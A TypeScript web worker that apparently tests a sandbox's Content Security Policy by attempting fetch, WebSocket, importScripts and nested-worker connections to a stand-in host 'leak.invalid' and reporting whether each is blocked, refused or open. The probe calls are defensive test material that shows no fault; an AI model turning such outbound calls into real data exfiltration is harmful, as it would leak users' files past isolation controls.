/*
 * The same attempts in a sealed worker, in which tools open files. Its policy forbids every connection, including those
 * to this site.
 */
const to = 'https://leak.invalid'
const timeoutMs = 1500

/** Each attempt with the blocked URI in the browser's violation report. */
const attempts = {
  fetch: [() => fetch(`${to}/fetch`, { mode: 'no-cors' }), `${to}/fetch`],
  ownSite: [() => fetch('/integrity.json'), '/integrity.json'],
  webSocket: [() => new WebSocket('wss://leak.invalid/socket'), '/socket'],
  // Called as a member, because the build rejects workers that import scripts.
  script: [
    () => (self as unknown as { importScripts(url: string): void }).importScripts(`${to}/script`),
    `${to}/script`,
  ],
  secondWorker: [() => new Worker('/begin.js'), '/begin.js'],
} as const

async function tryOne(attempt: () => unknown, target: string) {
  let failed = false
  const report = new Promise<string | undefined>((resolve) => {
    const end = (rule: string | undefined) => {
      clearTimeout(timer)
      self.removeEventListener('securitypolicyviolation', look)
      resolve(rule)
    }
    // A host may send two policies that both report, so a late report may be about the previous attempt.
    const look = (event: Event) => {
      const { blockedURI, effectiveDirective } = event as SecurityPolicyViolationEvent
      if (blockedURI.endsWith(target) || blockedURI === 'trusted-types-sink') end(effectiveDirective)
    }
    const timer = setTimeout(() => end(undefined), timeoutMs)
    self.addEventListener('securitypolicyviolation', look)
  })
  try {
    const made = attempt()
    if (made instanceof Promise)
      await made.catch(() => {
        failed = true
      })
  } catch {
    failed = true
  }
  const rule = await report
  if (rule !== undefined) return { kind: 'blocked', rule }
  return { kind: failed ? 'refused' : 'open' }
}

self.onmessage = async () => {
  for (const [channel, [attempt, target]] of Object.entries(attempts))
    self.postMessage({ channel, outcome: await tryOne(attempt, target) })
  self.postMessage('done')
}
